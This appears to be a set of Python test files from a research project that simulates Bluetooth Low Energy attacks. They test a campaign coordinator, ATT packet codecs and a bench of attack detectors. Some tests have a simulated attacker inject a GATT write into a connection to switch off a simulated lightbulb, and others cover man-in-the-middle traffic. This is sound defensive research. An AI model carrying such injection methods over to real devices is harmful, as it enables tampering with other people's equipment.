        assert (first.unit_id, first.stolen) == ("a", False)
        assert (second.unit_id, second.stolen) == ("b", False)
        assert q.lease("w3", now=0.2) is None  # too young to steal
        assert q.pending_count == 0 and q.inflight_count == 2

    def test_steal_requires_age_and_resets_it(self):
        q = LeaseQueue(["a"], lease_timeout_s=100, steal_after_s=2)
        q.lease("w1", now=0.0)
        assert q.lease("w2", now=1.9) is None
        grant = q.lease("w2", now=2.1)
        assert grant.stolen and grant.unit_id == "a"
        assert sorted(q.holders("a")) == ["w1", "w2"]
        # the steal refreshed last_granted: w3 must wait a full period
        assert q.lease("w3", now=3.0) is None
        assert q.lease("w3", now=4.2).stolen

    def test_worker_never_steals_its_own_lease(self):
        q = LeaseQueue(["a"], lease_timeout_s=100, steal_after_s=1)
        q.lease("w1", now=0.0)
        assert q.lease("w1", now=50.0) is None

    def test_expired_lease_is_requeued_and_regranted(self):
        q = LeaseQueue(["a"], lease_timeout_s=5, steal_after_s=100)
        q.lease("w1", now=0.0)
        assert q.requeue_expired(now=4.9) == []
        assert q.requeue_expired(now=5.1) == ["a"]
        grant = q.lease("w2", now=5.2)
        assert grant.unit_id == "a" and not grant.stolen

    def test_complete_is_first_wins_with_latency(self):
        q = LeaseQueue(["a"], lease_timeout_s=100, steal_after_s=1)
        q.lease("w1", now=1.0)
        q.lease("w2", now=2.5)  # steal
        done = q.complete("a", now=4.0)
        assert done.first and done.latency_s == pytest.approx(3.0)
        again = q.complete("a", now=4.1)
        assert not again.first and again.latency_s is None
        assert q.drained

    def test_complete_of_pending_unit_removes_it(self):
        q = LeaseQueue(["a", "b"])
        assert q.complete("b", now=0.0).first  # e.g. replayed journal
        grant = q.lease("w1", now=0.1)
        assert grant.unit_id == "a"
        q.complete("a", now=0.2)
        assert q.drained


# --------------------------------------------------------------------------
# Coordinator: the dict-level protocol against a real journal.


class _Clock:
    """Scripted monotonic clock."""

    def __init__(self):
        self.now = 0.0

    def __call__(self):
        return self.now


def _drain_units(coordinator, spec, worker="w"):
    """Lease and complete every unit the way a worker would."""
    from repro.campaign.engine import expand_units, unit_record, units_by_id
    from repro.campaign.registry import run_unit_trial
    from repro.runner import run_unit_robust

    units = units_by_id(expand_units(spec))
    while True:
        reply = coordinator.handle_message({
            "op": "lease", "worker": worker,
            "fingerprint": spec.fingerprint})
        if reply["op"] == "drained":
            return
        assert reply["op"] == "unit"
        unit = units[reply["unit_id"]]
        outcome = run_unit_robust(run_unit_trial, unit.trial,
                                  timeout_s=60, max_retries=0,
                                  backoff_s=0.01)
        record = unit_record(unit, outcome.result, outcome, cached=False)
        ack = coordinator.handle_message({
            "op": "result", "worker": worker,
            "fingerprint": spec.fingerprint,
            "record": unit_record_payload(record)})
        assert ack["op"] == "ack" and not ack["duplicate"]


class TestCoordinator:
    def test_protocol_roundtrip_matches_serial_run(self, tmp_path):
        spec = _quick_spec()
        serial = tmp_path / "serial.jsonl"
        run_campaign(spec, serial, jobs=1)

        clock = _Clock()
        coordinator = Coordinator(clock=clock)
        welcome = coordinator.handle_message({"op": "hello",
                                              "worker": "w"})
        assert welcome["op"] == "idle"  # nothing submitted yet
        coordinator.submit(spec, tmp_path / "served.jsonl")
        welcome = coordinator.handle_message({"op": "hello", "worker": "w"})
        assert welcome["op"] == "welcome"
        assert welcome["fingerprint"] == spec.fingerprint
        assert CampaignSpec.from_dict(welcome["spec"]) == spec
        _drain_units(coordinator, spec)
        coordinator.close()

        assert coordinator.complete
        assert build_report(load_state(tmp_path / "served.jsonl")) == \
            build_report(load_state(serial))

    def test_duplicate_and_stale_results_are_discarded(self, tmp_path):
        spec = _quick_spec(n=2)
        clock = _Clock()
        coordinator = Coordinator(clock=clock)
        coordinator.submit(spec, tmp_path / "j.jsonl")
        grant = coordinator.handle_lease("w1", spec.fingerprint)
        from repro.campaign.engine import expand_units, unit_record, units_by_id
        from repro.runner.executor import UnitOutcome

        unit = units_by_id(expand_units(spec))[grant["unit_id"]]
        result = TrialResult(success=True, attempts=1,
                             effect_observed=True,
                             connection_survived=True)
        outcome = UnitOutcome(index=0, status="ok", result=result,
                              detail="", retries=0)
        payload = unit_record_payload(
            unit_record(unit, outcome.result, outcome, cached=False))

        stale = coordinator.handle_result("w1", "not-the-fingerprint",
                                          payload)
        assert stale["op"] == "error"
        first = coordinator.handle_result("w1", spec.fingerprint, payload)
        assert first["op"] == "ack" and not first["duplicate"]
        second = coordinator.handle_result("w2", spec.fingerprint, payload)
        assert second["op"] == "ack" and second["duplicate"]

        counters = coordinator.metrics.snapshot()["counters"]
        assert counters["service.units.completed"] == 1
        assert counters["service.units.duplicate"] == 1
        assert counters["service.results.stale"] == 1
        # exactly one unit record hit the journal
        coordinator.close()
        _, _, records, _ = read_journal(tmp_path / "j.jsonl")
        assert list(records) == [unit.unit_id]

    def test_lease_telemetry_counts_steals_and_requeues(self, tmp_path):
        spec = _quick_spec(n=1)
        clock = _Clock()
        coordinator = Coordinator(clock=clock, lease_timeout_s=5,
                                  steal_after_s=1)
        coordinator.submit(spec, tmp_path / "j.jsonl")
        coordinator.handle_lease("w1", spec.fingerprint)
        clock.now = 2.0
        stolen = coordinator.handle_lease("w2", spec.fingerprint)
        assert stolen["stolen"] is True
        clock.now = 20.0  # both leases expired
        waiting = coordinator.handle_lease("w3", spec.fingerprint)
        assert waiting["op"] == "unit"  # requeued, then granted fresh
        counters = coordinator.metrics.snapshot()["counters"]
        assert counters["service.units.leased"] == 3
        assert counters["service.units.stolen"] == 1
        assert counters["service.units.requeued"] == 1
        coordinator.close()

    def test_second_submit_while_incomplete_is_refused(self, tmp_path):
        coordinator = Coordinator(clock=_Clock())
        coordinator.submit(_quick_spec(), tmp_path / "a.jsonl")
        with pytest.raises(ConfigurationError, match="still being served"):
            coordinator.submit(_quick_spec(n=3), tmp_path / "b.jsonl")
        coordinator.close()

    def test_event_stream_reports_each_unit_then_done(self, tmp_path):
        spec = _quick_spec(n=3)
        coordinator = Coordinator(clock=_Clock())
        coordinator.submit(spec, tmp_path / "j.jsonl")

        class _Sink(list):
            def put_nowait(self, item):
                self.append(item)

        sink = _Sink()
        coordinator.subscribe(sink)
        _drain_units(coordinator, spec)
        coordinator.close()
        kinds = [event["event"] for event in sink]
        assert kinds[0] == "status"
        assert kinds.count("unit") == 3
        assert kinds[-1] == "done"
        assert sink[-1]["campaign"]["done"] == 3


# --------------------------------------------------------------------------
# HTTP API over a live socket.


def _run_server(coroutine):
    """Run an async server-driving test body to completion."""
    return asyncio.run(coroutine)


async def _with_server(body, **coordinator_kwargs):
    """Start a coordinator+server on an ephemeral port, run ``body``."""
    coordinator = Coordinator(**coordinator_kwargs)
    server = ServiceServer(coordinator, port=0)
    await server.start()
    try:
        return await body(coordinator, server,
                          f"http://127.0.0.1:{server.port}")
    finally:
        await server.stop()
        coordinator.close()


class TestHttpApi:
    def test_submit_status_report_metrics(self, tmp_path):
        spec = _quick_spec()
        serial = tmp_path / "serial.jsonl"
        run_campaign(spec, serial, jobs=1)
        serial_report = build_report(load_state(serial))

        async def body(coordinator, server, url):
            loop = asyncio.get_event_loop()
            health = await loop.run_in_executor(
                None, lambda: fetch_status(url))
            assert health["campaign"] is None
            accepted = await loop.run_in_executor(
                None, lambda: submit_campaign(
                    url, spec.to_dict(),
                    journal=str(tmp_path / "served.jsonl")))
            assert accepted["total"] == 6
            # drain in-process (the protocol path is tested elsewhere)
            await loop.run_in_executor(
                None, lambda: _drain_units(coordinator, spec))
            status = await loop.run_in_executor(
                None, lambda: fetch_status(url))
            assert status["campaign"]["done"] == 6
            report = await loop.run_in_executor(
                None, lambda: fetch_report(url))
            report_json = await loop.run_in_executor(
                None, lambda: fetch_report(url, as_json=True))
            metrics = await loop.run_in_executor(
                None, lambda: fetch_metrics(url))
            return report, report_json, metrics

        report, report_json, metrics = _run_server(_with_server(body))
        assert report == serial_report + "\n"
        assert report_json["campaign"]["name"] == "svc-quick"
        assert report_json["campaign"]["done"] == 6
        assert metrics["counters"]["service.units.completed"] == 6

    def test_conflicting_submit_and_bad_requests(self, tmp_path):
        spec = _quick_spec()

        async def body(coordinator, server, url):
            loop = asyncio.get_event_loop()
            await loop.run_in_executor(
                None, lambda: submit_campaign(
                    url, spec.to_dict(),
                    journal=str(tmp_path / "a.jsonl")))
            with pytest.raises(ServiceError, match="still being served"):
                await loop.run_in_executor(
                    None, lambda: submit_campaign(
                        url, spec.to_dict(),
                        journal=str(tmp_path / "b.jsonl")))
            import http.client

            def raw(method, path):
                conn = http.client.HTTPConnection("127.0.0.1", server.port,
                                                  timeout=10)
                try:
                    conn.request(method, path)
                    response = conn.getresponse()
                    return response.status, response.read()
                finally:
                    conn.close()

            not_found = await loop.run_in_executor(
                None, lambda: raw("GET", "/nope"))
            wrong_method = await loop.run_in_executor(
                None, lambda: raw("DELETE", "/status"))
            health = await loop.run_in_executor(
                None, lambda: raw("GET", "/healthz"))
            return not_found, wrong_method, health

        not_found, wrong_method, health = _run_server(_with_server(body))
        assert not_found[0] == 404
        assert wrong_method[0] == 405
        assert health[0] == 200 and json.loads(health[1]) == {"ok": True}

    def test_url_and_endpoint_parsing(self):
        assert parse_url("http://127.0.0.1:8000") == ("127.0.0.1", 8000)
        assert parse_url("127.0.0.1:8000/") == ("127.0.0.1", 8000)
        assert parse_endpoint("10.0.0.2:4100") == ("10.0.0.2", 4100)
        for bad in ("https://x:1", "nope", "host:"):
            with pytest.raises(ServiceError):
                parse_url(bad)
        with pytest.raises(ServiceError):
            parse_endpoint("no-port")


# --------------------------------------------------------------------------
# serve_campaign: managed fleets.


class TestServeCampaign:
    def test_served_report_is_byte_identical_to_serial(self, tmp_path):
        spec = _quick_spec()
        serial = tmp_path / "serial.jsonl"
        run_campaign(spec, serial, jobs=1)
        events = []
        state = serve_campaign(spec, tmp_path / "served.jsonl", workers=2,
                               on_event=events.append)
        assert state.done == 6 and not state.pending
        assert build_report(state) == build_report(load_state(serial))
        kinds = [event["event"] for event in events]
        assert kinds.count("unit") == 6 and kinds[-1] == "done"

    def test_all_workers_dead_raises_instead_of_hanging(self, tmp_path):
        """If every managed worker dies, the watchdog must raise rather
        than serve an un-drainable campaign forever.  A supervisor
        thread SIGKILLs the single managed worker the moment it appears;
        sleepy units guarantee it cannot drain the grid first."""
        import multiprocessing
        import threading

        spec = CampaignSpec.from_dict({
            "name": "doomed", "seed": 0, "timeout_s": 60,
            "axes": [{"experiment": "test-sleepy", "n_connections": 8}],
        })

        def killer():
            deadline = time.monotonic() + 20
            while time.monotonic() < deadline:
                children = multiprocessing.active_children()
                if children:
                    for child in children:
                        child.kill()
                    return
                time.sleep(0.005)

        thread = threading.Thread(target=killer, daemon=True)
        thread.start()
        with pytest.raises(ServiceError, match="every managed worker"):
            serve_campaign(spec, tmp_path / "dead.jsonl", workers=1)
        thread.join(timeout=30)


# --------------------------------------------------------------------------
# The acceptance criterion: SIGKILL a worker mid-run, kill the
# coordinator, resume on the same journal, byte-identical report.


class TestWorkStealingAcceptance:
    def test_kill_worker_and_coordinator_then_resume_byte_identical(
            self, tmp_path):
        spec = _grid48_spec()
        serial = tmp_path / "serial.jsonl"
        run_campaign(spec, serial, jobs=1)
        serial_report = build_report(load_state(serial))
        journal = tmp_path / "served.jsonl"

        async def wait_done(coordinator, minimum, timeout_s=120.0):
            deadline = time.monotonic() + timeout_s
            while time.monotonic() < deadline:
                if coordinator.campaign.state.done >= minimum:
                    return
                await asyncio.sleep(0.02)
            raise AssertionError(
                f"campaign stalled before reaching {minimum} units "
                f"(at {coordinator.campaign.state.done})")

        async def phase_one():
            """Serve until mid-campaign; SIGKILL one worker, then 'crash'
            the coordinator by dropping it without draining."""
            coordinator = Coordinator(lease_timeout_s=30, steal_after_s=0.5)
            server = ServiceServer(coordinator, port=0)
            await server.start()
            port = server.port
            fleet = [spawn_worker("127.0.0.1", port, f"w{i}",
                                  reconnect_s=60.0,
                                  close_fds=server.listen_fds)
                     for i in range(3)]
            try:
                coordinator.submit(spec, journal)
                await wait_done(coordinator, 5)
                fleet[0].kill()  # SIGKILL mid-campaign
                await wait_done(coordinator, 15)
                done = coordinator.campaign.state.done
                assert done < 48, "finished too fast to exercise resume"
            finally:
                await server.stop()
                coordinator.close()  # journal writer released, not drained
            return port, fleet

        async def phase_two(port, fleet):
            """Fresh coordinator, same port, same journal: resume."""
            coordinator = Coordinator(lease_timeout_s=30, steal_after_s=0.5)
            server = ServiceServer(coordinator, host="127.0.0.1", port=port)
            await server.start()
            try:
                state = coordinator.submit(spec, journal)
                assert 0 < state.done < 48  # genuinely mid-campaign
                done_event = asyncio.Event()
                coordinator.add_completion_callback(done_event.set)
                await asyncio.wait_for(done_event.wait(), timeout=120)
                # keep serving while the survivors fetch their
                # "drained" reply and exit; only then tear down
                loop = asyncio.get_event_loop()
                for process in fleet[1:]:
                    await loop.run_in_executor(
                        None, lambda p=process: p.join(30))
            finally:
                await server.stop()
                coordinator.close()
            for process in fleet[1:]:
                assert process.exitcode == 0  # drained and exited cleanly
            fleet[0].join(timeout=10)

        port, fleet = asyncio.run(phase_one())
        try:
            asyncio.run(phase_two(port, fleet))
        finally:
            for process in fleet:
                if process.is_alive():
                    process.terminate()
                    process.join(timeout=10)

        # Every unit exactly once: 48 unique unit records, no duplicates.
        unit_lines = [json.loads(line)
                      for line in journal.read_text().splitlines()
                      if '"type": "unit"' in line]
        ids = [line["unit_id"] for line in unit_lines]
        assert len(ids) == 48
        assert len(set(ids)) == 48

        final = load_state(journal)
        assert final.done == 48 and not final.pending
        assert build_report(final) == serial_report


# --------------------------------------------------------------------------
# Journal durability satellites.


class TestJournalDurability:
    def test_fsync_flag_reaches_the_writer_and_journal_is_valid(
            self, tmp_path):
        spec = _quick_spec(n=3)
        journal = tmp_path / "fsync.jsonl"
        state = run_campaign(spec, journal, jobs=1, fsync=True)
        assert state.done == 3
        plain = tmp_path / "plain.jsonl"
        run_campaign(spec, plain, jobs=1)
        # identical bytes: fsync changes durability, not content
        assert journal.read_bytes() == plain.read_bytes()

    def test_fsync_attribute_plumbing(self, tmp_path):
        from repro.campaign import open_journal

        writer, _, _ = open_journal(_quick_spec(), tmp_path / "a.jsonl",
                                    fsync=True)
        assert writer.fsync is True
        writer.close()
        writer, _, _ = open_journal(_quick_spec(), tmp_path / "b.jsonl")
        assert writer.fsync is False
        writer.close()

    def test_truncation_mid_record_recovers_all_complete_records(
            self, tmp_path):
        spec = _quick_spec(n=5)
        journal = tmp_path / "cut.jsonl"
        run_campaign(spec, journal, jobs=1)
        intact = read_journal(journal)[2]
        assert len(intact) == 5

        # cut the file in the middle of the final record, as a power
        # loss or full disk would
        blob = journal.read_bytes()
        last_line_start = blob.rstrip(b"\n").rfind(b"\n") + 1
        cut_at = last_line_start + (len(blob) - last_line_start) // 2
        journal.write_bytes(blob[:cut_at])

        state = load_state(journal)
        assert state.done == 4  # the torn record is dropped, rest survive
        resumed = run_campaign(spec, journal, jobs=1)
        assert resumed.done == 5 and not resumed.pending

    def test_truncated_then_resumed_report_is_byte_identical(self, tmp_path):
        spec = _quick_spec(n=5)
        reference = tmp_path / "ref.jsonl"
        run_campaign(spec, reference, jobs=1)
        cut = tmp_path / "cut.jsonl"
        run_campaign(spec, cut, jobs=1)
        blob = cut.read_bytes()
        last_line_start = blob.rstrip(b"\n").rfind(b"\n") + 1
        cut.write_bytes(blob[:last_line_start + 7])  # mid-record tail
        run_campaign(spec, cut, jobs=1)  # re-executes the torn unit
        assert build_report(load_state(cut)) == \
            build_report(load_state(reference))


# --------------------------------------------------------------------------
# CLI surface: --format json shares the HTTP API's rendering path.


class TestCliJsonFormats:
    def test_status_and_report_format_json(self, tmp_path, capsys):
        spec_path = tmp_path / "spec.json"
        spec_path.write_text(json.dumps(_quick_spec().to_dict()))
        journal = tmp_path / "j.jsonl"
        assert main(["campaign", "run", str(spec_path),
                     "--journal", str(journal)]) == 0
        capsys.readouterr()

        assert main(["campaign", "status", str(journal),
                     "--format", "json"]) == 0
        status = json.loads(capsys.readouterr().out)
        assert status["name"] == "svc-quick"
        assert status["done"] == status["total"] == 6

        assert main(["campaign", "report", str(journal),
                     "--format", "json"]) == 0
        report = json.loads(capsys.readouterr().out)
        assert report["campaign"] == status
        assert report["axes"][0]["experiment"] == "test-quick"
        assert "failures" in report and "metrics" in report

    def test_status_requires_journal_or_url(self, capsys):
        assert main(["campaign", "status"]) == 2
        assert "journal" in capsys.readouterr().err

    def test_serve_cli_runs_and_resumes(self, tmp_path, capsys):
        spec_path = tmp_path / "spec.json"
        spec_path.write_text(json.dumps(_quick_spec().to_dict()))
        journal = tmp_path / "served.jsonl"
        assert main(["serve", str(spec_path), "--journal", str(journal),
                     "--workers", "2", "--port", "0"]) == 0
        capsys.readouterr()
        # resume of a finished journal (no spec): immediate clean exit
        assert main(["serve", "--journal", str(journal),
                     "--workers", "0", "--port", "0"]) == 0
        capsys.readouterr()
        # no spec and no journal: usage error
        assert main(["serve", "--journal",
                     str(tmp_path / "missing.jsonl")]) == 2
