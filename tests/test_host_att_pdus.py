"""Unit tests for ATT PDU codecs."""

import pytest

from repro.errors import CodecError
from repro.host.att.opcodes import AttError, AttOpcode
from repro.host.att.pdus import (
    ErrorRsp,
    ExchangeMtuReq,
    ExchangeMtuRsp,
    FindInformationReq,
    FindInformationRsp,
    HandleValueCfm,
    HandleValueInd,
    HandleValueNtf,
    ReadByGroupTypeReq,
    ReadByGroupTypeRsp,
    ReadByTypeReq,
    ReadByTypeRsp,
    ReadReq,
    ReadRsp,
    WriteCmd,
    WriteReq,
    WriteRsp,
    decode_att_pdu,
)

ROUND_TRIP_PDUS = [
    ErrorRsp(AttOpcode.READ_REQ, 0x0042, AttError.ATTRIBUTE_NOT_FOUND),
    ExchangeMtuReq(mtu=185),
    ExchangeMtuRsp(mtu=23),
    FindInformationReq(1, 0xFFFF),
    FindInformationRsp(((1, 0x2800), (2, 0x2803))),
    ReadByTypeReq(1, 0xFFFF, 0x2A00),
    ReadByTypeRsp(((3, b"abcd"),)),
    ReadByGroupTypeReq(1, 0xFFFF, 0x2800),
    ReadByGroupTypeRsp(((1, 5, b"\x00\x18"),)),
    ReadReq(0x0007),
    ReadRsp(b"value-bytes"),
    WriteReq(0x0006, b"\x01\x00"),
    WriteRsp(),
    WriteCmd(0x0006, b"\x01\x01"),
    HandleValueNtf(0x000A, b"notify"),
    HandleValueInd(0x000A, b"indicate"),
    HandleValueCfm(),
]


class TestRoundTrips:
    @pytest.mark.parametrize("pdu", ROUND_TRIP_PDUS,
                             ids=lambda p: type(p).__name__)
    def test_round_trip(self, pdu):
        assert decode_att_pdu(pdu.to_bytes()) == pdu


class TestWireFormats:
    def test_write_req_layout(self):
        # Scenario A's primary weapon: opcode | handle LE | value.
        pdu = WriteReq(0x0102, b"\xff")
        assert pdu.to_bytes() == b"\x12\x02\x01\xff"

    def test_read_req_layout(self):
        assert ReadReq(0x0007).to_bytes() == b"\x0a\x07\x00"

    def test_write_cmd_opcode(self):
        assert WriteCmd(1, b"").to_bytes()[0] == 0x52

    def test_error_rsp_layout(self):
        pdu = ErrorRsp(0x0A, 0x0001, AttError.INVALID_HANDLE)
        assert pdu.to_bytes() == b"\x01\x0a\x01\x00\x01"


class TestValidation:
    def test_empty_rejected(self):
        with pytest.raises(CodecError):
            decode_att_pdu(b"")

    def test_unknown_opcode_rejected(self):
        with pytest.raises(CodecError):
            decode_att_pdu(b"\x99")

    def test_truncated_write_rejected(self):
        with pytest.raises(CodecError):
            decode_att_pdu(b"\x12\x01")

    def test_read_by_type_rsp_uniform_lengths(self):
        with pytest.raises(CodecError):
            ReadByTypeRsp(((1, b"ab"), (2, b"abc"))).to_bytes()

    def test_read_by_type_rsp_needs_records(self):
        with pytest.raises(CodecError):
            ReadByTypeRsp(()).to_bytes()

    def test_malformed_find_information_rejected(self):
        with pytest.raises(CodecError):
            decode_att_pdu(bytes([AttOpcode.FIND_INFORMATION_RSP, 0x01,
                                  0x01]))
