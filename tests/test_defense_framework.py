"""Tests for the pluggable detector framework and the defense ROC bench.

Three tiers:

* pure-unit tests of the registry (`repro.defense.api`) and the ROC
  arithmetic (`repro.analysis.roc`);
* a golden-report test pinning `summarize_defense` +
  `render_roc_table` output for synthetic results;
* simulation tests on small monitored worlds: detector behaviour on an
  injection, and the determinism contract — verdict streams
  bit-identical (by SHA-256 digest) across simulation engines and
  worker counts.
"""

from pathlib import Path

import pytest

from repro.analysis import render_roc_table
from repro.analysis.roc import (
    auc,
    false_positive_rate,
    latency_curve,
    quantile,
    roc_points,
    true_positive_rate,
)
from repro.defense import (
    ALERT_SCORE,
    DETECTORS,
    Detector,
    DetectorDef,
    detector_names,
    get_detector,
    make_detectors,
    register_detector,
    verdict_stream_digest,
)
from repro.defense.bank import DetectorBank
from repro.errors import ConfigurationError
from repro.experiments.common import TrialResult, run_trial_units
from repro.experiments.defense import (
    TRAFFIC_KINDS,
    DefenseTrial,
    resolve_traffic,
    run_defense_trial_world,
    summarize_defense,
    trial_units,
)

DATA_DIR = Path(__file__).parent / "data"

BUILTINS = ("double-frame", "anchor-anomaly", "jamming", "response-time",
            "hop-conformance")


class TestRegistry:
    def test_builtins_registered_in_order(self):
        names = [n for n in detector_names() if n in BUILTINS]
        assert tuple(names) == BUILTINS

    def test_duplicate_registration_rejected(self):
        defn = get_detector("double-frame")
        with pytest.raises(ConfigurationError):
            register_detector(defn)
        register_detector(defn, replace=True)  # idempotent with replace
        assert get_detector("double-frame") is defn

    def test_unknown_detector_names_the_known_ones(self):
        with pytest.raises(ConfigurationError, match="double-frame"):
            get_detector("no-such-detector")

    def test_make_detectors_builds_fresh_instances(self):
        first = make_detectors(["response-time"])
        second = make_detectors(["response-time"])
        assert first[0] is not second[0]
        assert [d.name for d in make_detectors()] == detector_names()

    def test_third_party_registration_round_trip(self):
        class Null(Detector):
            name = "test-null"

            def on_frame(self, view):
                return []

        register_detector(DetectorDef("test-null", Null, "no-op"))
        try:
            assert make_detectors(["test-null"])[0].name == "test-null"
            assert "test-null" in detector_names()
        finally:
            DETECTORS.pop("test-null")


class TestRocMath:
    def test_auc_separation_and_ties(self):
        assert auc([1.0, 2.0], [0.0, 0.5]) == 1.0
        assert auc([0.0], [1.0]) == 0.0
        assert auc([0.5, 0.5], [0.5, 0.5]) == 0.5
        assert auc([1.0, 0.0], [0.5, 0.5]) == 0.5

    def test_auc_undefined_on_empty_class(self):
        assert auc([], [1.0]) is None
        assert auc([1.0], []) is None

    def test_rates_at_the_alert_threshold(self):
        assert true_positive_rate([ALERT_SCORE, 0.2]) == 0.5
        assert false_positive_rate([0.0, 0.2, ALERT_SCORE + 1]) == 1 / 3
        assert true_positive_rate([]) is None
        assert false_positive_rate([]) is None

    def test_roc_points_endpoints_and_monotonicity(self):
        points = roc_points([0.9, 0.4], [0.1, 0.4])
        assert points[0] == (float("-inf"), 1.0, 1.0)
        assert points[-1] == (float("inf"), 0.0, 0.0)
        fprs = [p[1] for p in points]
        tprs = [p[2] for p in points]
        assert fprs == sorted(fprs, reverse=True)
        assert tprs == sorted(tprs, reverse=True)

    def test_latency_curve_merges_duplicates_and_plateaus(self):
        curve = latency_curve([100.0, 100.0, 300.0], total=4)
        assert curve == [(100.0, 0.5), (300.0, 0.75)]
        assert latency_curve([], total=0) == []

    def test_quantile_nearest_rank(self):
        values = [30.0, 10.0, 20.0]
        assert quantile(values, 0.0) == 10.0
        assert quantile(values, 0.5) == 20.0
        assert quantile(values, 1.0) == 30.0
        assert quantile([], 0.5) is None


class TestGrid:
    def test_full_grid_covers_every_traffic(self):
        units = trial_units(base_seed=17, n_connections=2)
        assert len(units) == 2 * len(TRAFFIC_KINDS)
        traffics = {t.traffic for _, t in units}
        assert traffics == set(TRAFFIC_KINDS)

    def test_subset_reproduces_full_grid_seeds(self):
        full = {(t.traffic, t.seed) for _, t in trial_units(n_connections=2)}
        subset = {(t.traffic, t.seed)
                  for _, t in trial_units(n_connections=2,
                                          traffics=["benign", "D"])}
        assert subset <= full
        assert {t for t, _ in subset} == {"benign", "D"}

    def test_resolve_traffic_aliases(self):
        assert resolve_traffic("clean") == "benign"
        assert resolve_traffic("ambient") == "dense-ambient"
        assert resolve_traffic("d") == "D"
        assert resolve_traffic("A (use feature)") == "A"
        with pytest.raises(KeyError):
            resolve_traffic("E")


def _detection(traffic, attack, scores, latency_us=None):
    """A synthetic TrialResult carrying a defense detection payload."""
    detectors = {
        name: {
            "verdicts": 1,
            "alerts": 1 if score >= ALERT_SCORE else 0,
            "max_score": score,
            "first_alert_us": latency_us,
            "latency_us": latency_us if score >= ALERT_SCORE else None,
            "stream_sha256": "0" * 64,
        }
        for name, score in scores.items()
    }
    return TrialResult(
        success=attack, attempts=0, effect_observed=False,
        connection_survived=not attack,
        detection={"traffic": traffic, "attack": attack,
                   "attack_start_us": 0.0 if attack else None,
                   "attack_success": attack, "polls_answered": 6,
                   "detectors": detectors})


class TestGoldenReport:
    """Pin the summarize + render pipeline on synthetic results."""

    def _results(self):
        return {
            "benign": [
                _detection("benign", False, {"det-a": 0.1, "det-b": 0.0}),
                _detection("benign", False, {"det-a": 0.3, "det-b": 1.0}),
            ],
            "D (MitM)": [
                _detection("D", True, {"det-a": 2.0, "det-b": 0.5},
                           latency_us=250_000.0),
                _detection("D", True, {"det-a": 1.5, "det-b": 0.5},
                           latency_us=750_000.0),
            ],
        }

    def test_summary_rows(self):
        rows = summarize_defense(self._results())
        by_detector = {r["detector"]: r for r in rows}
        assert set(by_detector) == {"det-a", "det-b"}
        a = by_detector["det-a"]
        assert a["traffic"] == "D (MitM)"
        assert a["auc"] == 1.0 and a["tpr"] == 1.0 and a["fpr"] == 0.0
        assert a["detected"] == 2
        assert a["latency_p50_us"] == 750_000.0
        b = by_detector["det-b"]
        assert b["auc"] == 0.5 and b["tpr"] == 0.0 and b["fpr"] == 0.5

    def test_rendered_table_matches_golden(self):
        rows = summarize_defense(self._results())
        text = render_roc_table("Defense bench (golden)", rows)
        golden = DATA_DIR / "defense_roc_golden.txt"
        assert text == golden.read_text()

    def test_table_handles_no_results(self):
        text = render_roc_table("Defense bench (empty)", [])
        assert "no completed monitored trials" in text


@pytest.fixture(scope="module")
def smoke_results():
    """A benign + scenario-D mini-grid, shared by the live-world tests."""
    units = trial_units(base_seed=17, n_connections=2,
                        traffics=["benign", "D"])
    return units, run_trial_units(units, jobs=1)


class TestLiveBench:
    def test_detection_payload_shape(self, smoke_results):
        _, results = smoke_results
        for trials in results.values():
            for t in trials:
                assert t.failure is None
                assert set(t.detection["detectors"]) == set(BUILTINS)
                for summary in t.detection["detectors"].values():
                    assert summary["verdicts"] >= summary["alerts"]
                    assert len(summary["stream_sha256"]) == 64

    def test_mitm_is_detected_and_benign_stays_quiet(self, smoke_results):
        _, results = smoke_results
        benign = next(v for k, v in results.items() if k == "benign")
        mitm = next(v for k, v in results.items() if k.startswith("D"))
        for t in benign:
            d = t.detection["detectors"]
            assert d["double-frame"]["alerts"] == 0
            assert d["anchor-anomaly"]["alerts"] == 0
            assert t.detection["polls_answered"] > 0
        for t in mitm:
            assert t.detection["attack_success"]
            assert t.detection["detectors"]["double-frame"]["alerts"] > 0

    def test_response_time_auc_on_mitm(self, smoke_results):
        """The BLEKeeper signal: relay latency must perfectly rank
        scenario D above benign traffic in the smoke grid."""
        _, results = smoke_results
        rows = summarize_defense(results)
        row = next(r for r in rows if r["detector"] == "response-time"
                   and r["traffic"].startswith("D"))
        assert row["auc"] is not None and row["auc"] > 0.9

    def test_results_identical_at_any_job_count(self, smoke_results):
        units, serial = smoke_results
        parallel = run_trial_units(units, jobs=2)
        assert {k: [t.detection for t in v] for k, v in serial.items()} == \
            {k: [t.detection for t in v] for k, v in parallel.items()}


class TestEngineDifferential:
    """Verdict streams must not depend on the simulation engine."""

    @pytest.mark.parametrize("traffic", ["benign", "D"])
    def test_digests_match_across_engines(self, traffic):
        trial = DefenseTrial(seed=424_242, traffic=traffic)
        fast, _ = run_defense_trial_world(trial, engine="fast")
        reference, _ = run_defense_trial_world(trial, engine="reference")
        fast_digests = {name: s["stream_sha256"]
                        for name, s in fast.detection["detectors"].items()}
        ref_digests = {name: s["stream_sha256"]
                       for name, s
                       in reference.detection["detectors"].items()}
        assert fast_digests == ref_digests
        assert fast.detection == reference.detection


class TestBankOnInjection:
    def test_injection_world_produces_scored_stream(self):
        from repro.core.attacker import Attacker
        from repro.core.injection import InjectionConfig
        from repro.devices import Lightbulb, Smartphone
        from repro.host.att.pdus import WriteReq
        from repro.host.l2cap import CID_ATT, l2cap_encode
        from repro.sim.medium import Medium
        from repro.sim.simulator import Simulator
        from repro.sim.topology import Topology

        sim = Simulator(seed=91)
        topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
        medium = Medium(sim, topo)
        bank = DetectorBank(sim, medium)
        bulb = Lightbulb(sim, medium, "bulb")
        phone = Smartphone(sim, medium, "phone", interval=75)
        attacker = Attacker(sim, medium, "attacker",
                            injection_config=InjectionConfig(max_attempts=60))
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=1_500_000)
        handle = bulb.gatt.find_characteristic(0xFF11).value_handle
        payload = l2cap_encode(CID_ATT, WriteReq(
            handle, Lightbulb.power_payload(False, pad_to=5)).to_bytes())
        attacker.inject(payload, on_done=lambda r: None)
        sim.run(until_us=60_000_000)

        assert bank.alerts_of("double-frame")
        summaries = bank.summaries(attack_start_us=1_500_000.0)
        assert summaries["double-frame"]["latency_us"] is not None
        assert summaries["double-frame"]["latency_us"] >= 0
        # The digest is canonical: recomputing it over the same stream
        # (the differential tests' comparison key) is stable.
        stream = bank.verdicts_of("double-frame")
        assert summaries["double-frame"]["stream_sha256"] == \
            verdict_stream_digest(stream)
